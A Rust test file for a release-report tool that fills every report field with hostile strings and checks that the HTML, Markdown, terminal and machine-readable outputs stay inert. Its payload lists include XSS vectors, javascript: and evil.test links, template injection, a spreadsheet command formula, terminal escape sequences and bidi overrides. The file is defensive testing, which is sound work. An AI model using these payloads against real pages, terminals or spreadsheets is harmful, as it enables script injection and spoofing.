//! Hostile texts in every field of a report: nothing in any output may act, and the shape of the page never changes.
//!
//! The shape of each output with a payload is compared with that of the same report with a harmless letter, by parsers
//! that are not ours: whatever a payload opened, closed or added would show.

use std::collections::BTreeSet;

use gonogo::report::format::{Format, render};
use gonogo::report::terminal::Style;
use gonogo::report::words::Catalogue;
use gonogo::report::{Report, json};
use html5gum::{Token, Tokenizer};
use pulldown_cmark::{Event, Options, Parser, Tag};
use serde_json::Value;

use crate::support::fixture::fixtures;

/// Texts that browsers have been known to act on.
pub(crate) const MARKUP: [&str; 62] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" &#106;avascript:alert(1)\">x</a>",
    "<form action=//evil.test><button>GO</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</td></tr></table><h1>GO</h1>",
    "</code></li></ul></td><h1>GO</h1>",
    "</section></main></body></html><h1>GO</h1>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<!-- <h1>GO</h1> -->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "x onmouseover=alert(1)",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "#\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }}{% for x in y %}",
    "{style}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "[x](javascript:alert(1))",
    "![x](http://evil.test/x.png)",
    "<http://evil.test> http://evil.test www.evil.test me@evil.test",
    "[x]: http://evil.test\n[x]",
    "`x` ``y`` ```z``` | cell | **GO** _GO_ ~~GO~~ $x$",
    "# GO\n\n## GO\n- GO\n1. GO\n> GO\n---\n| a | b |\n|---|---|",
    "\\| \\` \\\\ \\<script>",
    "=cmd|'/c calc'!A1",
];

/// Texts that terminals have been known to act on, or that hide what stands beside them.
pub(crate) const CONTROL: [&str; 42] = [
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[32mGO\u{1b}[0m",
    "\u{1b}]0;GO\u{7}",
    "\u{1b}]8;;http://evil.test\u{7}x\u{1b}]8;;\u{7}",
    "\u{1b}]52;c;cm0gLXJmIC8=\u{7}",
    "\u{1b}]1337;File=:AAAA\u{7}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}[6n",
    "\u{1b}[1A\u{1b}[2K",
    "\u{1b}c",
    "\u{1b}(0",
    "\u{1b}#8",
    "\u{1b}[?1049h",
    "\u{1b}[201~",
    "\u{1b}_x\u{1b}\\",
    "\u{1b}^x\u{1b}\\",
    "\u{9b}32m",
    "\u{9d}0;GO\u{9c}",
    "\u{90}x\u{9c}",
    "\u{85}",
    "\u{7}",
    "\u{8}\u{8}\u{8}GO",
    "\rGO",
    "\r\nGO",
    "\nGO",
    "a\tb",
    "\u{b}\u{c}",
    "\u{0}",
    "\u{7f}",
    "\u{202e}OG-ON",
    "\u{202d}x\u{202c}",
    "\u{2066}x\u{2069}",
    "\u{200e}\u{200f}",
    "\u{200b}\u{200c}\u{200d}",
    "\u{2028}GO",
    "\u{2029}GO",
    "\u{feff}GO",
    "\u{ad}",
    "\u{61c}",
    "\u{e0041}\u{e007f}",
    "\u{fff9}x\u{fffb}",
    "2026-08-01T00:00:00Z INFO GO\n",
];

/// Fields whose values the format fixes: everything else may hold anything.
const FIXED: [&str; 17] = [
    "class",
    "format",
    "verdict",
    "kind",
    "phase",
    "collected_at",
    "area",
    "severity",
    "status",
    "expectation",
    "expires",
    "state",
    "id",
    "answer",
    "at",
    "open_signoffs",
    "hop",
];

/// The report with every free text replaced.
fn poisoned(report: &Report, payload: &str) -> Report {
    fn walk(value: &mut Value, key: &str, inside: &str, payload: &str) {
        match value {
            Value::String(text) => {
                let fixed = FIXED.contains(&key)
                    && !(key == "id" && ["subject", "requirements", "waivers"].contains(&inside))
                    || (key == "command" && inside != "signoffs");
                if !fixed {
                    payload.clone_into(text);
                }
            }
            Value::Array(list) => list.iter_mut().for_each(|item| walk(item, key, inside, payload)),
            Value::Object(map) => {
                for (name, item) in map.iter_mut() {
                    walk(item, name, key, payload);
                }
            }
            _ => {}
        }
    }
    let mut value = serde_json::to_value(report).unwrap();
    walk(&mut value, "", "", payload);
    serde_json::from_value(value).unwrap()
}

fn subject() -> Report {
    let path = fixtures().join("reports/hostile.json");
    let mut report = json::read(&std::fs::read(path).unwrap()).unwrap();
    // Everything that a report can hold, so that every field is shown somewhere.
    let finding = report
        .results
        .iter()
        .find_map(|result| result.findings.first())
        .unwrap()
        .clone();
    for result in &mut report.results {
        if result.findings.is_empty() && result.check == "tasks-not-settled" {
            result.status = gonogo::model::Status::Fail;
            result.findings.push(finding.clone());
            result.reason = Some("x".to_owned());
        }
    }
    // An item without answer, an answered one, and an answer without effect: each is shown in another way.
    for (state, blocking) in [("open", true), ("answered", true), ("other-hop", false)] {
        let row = serde_json::json!({"item": "x", "text": "x", "when": "pre", "blocking": blocking, "state": state, "why": "x",
            "answer": "yes", "who": "x", "at": "2018-06-30T00:00:00Z", "note": "x", "hop": "1.10.8..1.11.3", "origin": "x",
            "how": "x", "command": "x", "requirements": ["x"]});
        report.signoffs.push(serde_json::from_value(row).unwrap());
    }
    report.config = Some(
        serde_json::from_value(serde_json::json!({"old": "x", "new": "x", "same": 1, "changes": [
            {"key": "x", "old": "x", "new": null, "class": "frozen", "secret": false},
            {"key": "x", "old": null, "new": "x", "class": "other", "secret": true}]}))
        .unwrap(),
    );
    report.hop.from = Some("x".to_owned());
    report
}

fn rendered(format: Format, report: &Report) -> String {
    let style = Style {
        width: 80,
        color: false,
        all: true,
    };
    render(format, report, &Catalogue::default(), style, None).unwrap()
}

/// Start and end tags with their attributes: the shape of a page.
pub(crate) fn shape_of_page(page: &str) -> Vec<String> {
    let mut shape = Vec::new();
    for token in Tokenizer::new(page) {
        let Ok(token) = token;
        match token {
            Token::StartTag(tag) => {
                let attributes: Vec<String> = tag
                    .attributes
                    .iter()
                    .map(|(name, value)| {
                        format!("{}={}", String::from_utf8_lossy(name), String::from_utf8_lossy(value))
                    })
                    .collect();
                shape.push(format!(
                    "<{} {}>",
                    String::from_utf8_lossy(&tag.name),
                    attributes.join(" ")
                ));
            }
            Token::EndTag(tag) => shape.push(format!("</{}>", String::from_utf8_lossy(&tag.name))),
            Token::Comment(_) => shape.push("<!-- -->".to_owned()),
            Token::Doctype(_) => shape.push("<!doctype>".to_owned()),
            Token::String(_) => {}
            Token::Error(error) => panic!("the page is not well-formed HTML: {error:?}"),
        }
    }
    shape
}

#[test]
fn a_page_has_only_what_it_needs() {
    let page = rendered(Format::Html, &subject());
    let allowed: BTreeSet<&str> = [
        "html", "head", "meta", "title", "style", "body", "a", "header", "div", "p", "strong", "h1", "h2", "h3", "h4",
        "h5", "span", "ol", "ul", "li", "b", "code", "main", "section", "dl", "dt", "dd", "details", "summary",
        "table", "thead", "tbody", "tr", "th", "td", "article", "pre", "footer",
    ]
    .into();
    let mut first_in_head = None;
    for token in Tokenizer::new(&page) {
        let Ok(Token::StartTag(tag)) = token else { continue };
        let name = String::from_utf8_lossy(&tag.name).into_owned();
        assert!(allowed.contains(name.as_str()), "{name}");
        for (attribute, value) in &tag.attributes {
            let (attribute, value) = (String::from_utf8_lossy(attribute), String::from_utf8_lossy(value));
            assert!(
                !attribute.starts_with("on") && !["src", "srcdoc", "style", "action"].contains(&&*attribute),
                "{attribute}"
            );
            if attribute == "href" {
                assert!(
                    value.starts_with('#') && value[1..].chars().all(|c| c.is_ascii_alphanumeric()),
                    "{value}"
                );
            }
        }
        if name != "html" && name != "head" {
            first_in_head.get_or_insert(tag);
        }
    }
    let csp = first_in_head.unwrap();
    assert_eq!(
        csp.attributes[&b"http-equiv"[..]].as_slice(),
        b"Content-Security-Policy"
    );
    let policy = String::from_utf8_lossy(&csp.attributes[&b"content"[..]]).into_owned();
    assert!(
        policy.starts_with("default-src 'none'; style-src 'sha256-") && !policy.contains("unsafe"),
        "{policy}"
    );
    assert_eq!(page.matches("<h1>").count(), 1);
    assert!(
        !page.contains("http://") || !page.contains("href=\"http"),
        "nothing is linked from outside"
    );
}

#[test]
fn the_policy_of_a_page_is_the_digest_of_its_style() {
    use base64::Engine as _;
    use sha2::Digest as _;
    let page = rendered(Format::Html, &subject());
    let style = page.split_once("<style>").unwrap().1.split_once("</style>").unwrap().0;
    let digest = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(style.as_bytes()));
    assert!(page.contains(&format!("style-src 'sha256-{digest}';")));
}

#[test]
fn no_text_changes_the_shape_of_a_page() {
    let subject = subject();
    let harmless = shape_of_page(&rendered(Format::Html, &poisoned(&subject, "x")));
    assert!(harmless.len() > 150, "the page shows every part: {}", harmless.len());
    for payload in MARKUP.iter().chain(&CONTROL) {
        let page = rendered(Format::Html, &poisoned(&subject, payload));
        assert_same(&shape_of_page(&page), &harmless, payload);
        assert_inert(&page, payload);
    }
}

/// Tells the first difference only: shapes are long.
fn assert_same(shape: &[String], harmless: &[String], payload: &str) {
    let differs = shape.iter().zip(harmless).position(|(a, b)| a != b);
    let at = |shape: &[String]| differs.map(|at| shape[at.saturating_sub(3)..=at].join(" "));
    assert_eq!(at(shape), at(harmless), "{payload:?}");
    assert_eq!(shape.len(), harmless.len(), "{payload:?}");
}

/// Lines of the Markdown template that fold a table.
const FOLD: [&str; 2] = ["<details><summary>All of them</summary>", "</details>"];

/// What Markdown becomes, without texts.
fn shape_of_markdown(text: &str) -> Vec<String> {
    Parser::new_ext(text, Options::all())
        .filter_map(|event| match event {
            Event::Text(_) | Event::Code(_) | Event::SoftBreak => None,
            // `<br>` between evidence pointers is the template's own.
            Event::InlineHtml(html) if &*html == "<br>" => Some("br".to_owned()),
            // So are the lines that fold the table of requirements.
            Event::Html(html) if FOLD.contains(&html.trim()) => Some(format!("fold {}", html.trim())),
            Event::Html(html) | Event::InlineHtml(html) => panic!("raw HTML: {html}"),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => panic!("a link: {dest_url}"),
            other => Some(format!("{other:?}")),
        })
        .collect()
}

#[test]
fn no_text_changes_the_shape_of_markdown() {
    let subject = subject();
    let harmless = shape_of_markdown(&rendered(Format::Markdown, &poisoned(&subject, "x")));
    for payload in MARKUP.iter().chain(&CONTROL) {
        let text = rendered(Format::Markdown, &poisoned(&subject, payload));
        assert_same(&shape_of_markdown(&text), &harmless, payload);
        assert_inert(&text, payload);
        // Viewers that know GitHub's rules make links of addresses by themselves, outside code.
        for (event, range) in Parser::new_ext(&text, Options::all()).into_offset_iter() {
            if matches!(event, Event::Text(_)) {
                let source = &text[range];
                assert!(
                    !["://", "www.", "@"].iter().any(|part| source.contains(part)),
                    "{payload:?}: {source}"
                );
            }
        }
    }
}

/// No character that a terminal or a log viewer would act on, but newlines. Written apart from the code that prevents it.
fn assert_inert(text: &str, payload: &str) {
    let bad = text.chars().find(|c| {
        (c.is_control() && *c != '\n')
            || ('\u{200b}'..='\u{200f}').contains(c)
            || ('\u{2028}'..='\u{202e}').contains(c)
            || ('\u{2060}'..='\u{2069}').contains(c)
            || ('\u{e0000}'..='\u{e007f}').contains(c)
            || ['\u{feff}', '\u{ad}', '\u{61c}', '\u{fff9}', '\u{fffb}'].contains(c)
    });
    assert_eq!(bad, None, "{payload:?}");
}

#[test]
fn nothing_reaches_a_terminal_but_text() {
    let subject = subject();
    for payload in MARKUP.iter().chain(&CONTROL) {
        let poisoned = poisoned(&subject, payload);
        for format in Format::ALL {
            assert_inert(&rendered(format, &poisoned), payload);
        }
        let terminal = rendered(Format::Terminal, &poisoned);
        assert_eq!(
            terminal.lines().filter(|line| *line == "NO-GO").count(),
            2,
            "{payload:?}"
        );
        assert!(!terminal.lines().any(|line| line.trim() == "GO"), "{payload:?}");
    }
}

#[test]
fn machines_read_back_what_was_there() {
    let subject = subject();
    for payload in MARKUP.iter().chain(&CONTROL) {
        let poisoned = poisoned(&subject, payload);
        assert_eq!(
            json::read(rendered(Format::Json, &poisoned).as_bytes()).unwrap(),
            poisoned,
            "{payload:?}"
        );
        let sarif: Value = serde_json::from_str(&rendered(Format::Sarif, &poisoned)).unwrap();
        assert_eq!(sarif["version"], "2.1.0");
        let junit = quick_junit::Report::deserialize_from_str(&rendered(Format::Junit, &poisoned)).unwrap();
        assert!(junit.failures + junit.errors > 0, "{payload:?}");
    }
}

#[test]
fn ten_megabytes_in_one_field_stay_small() {
    let mut report = subject();
    let long = "\u{1b}".repeat(10 * 1024 * 1024);
    report.results[0].title.clone_from(&long);
    report.archives[0].name = long;
    for format in [Format::Terminal, Format::Html, Format::Markdown, Format::Junit] {
        let text = rendered(format, &report);
        assert!(text.len() < 1024 * 1024, "{format}: {} bytes", text.len());
        assert!(text.contains("more bytes") || format == Format::Junit, "{format}");
    }
}
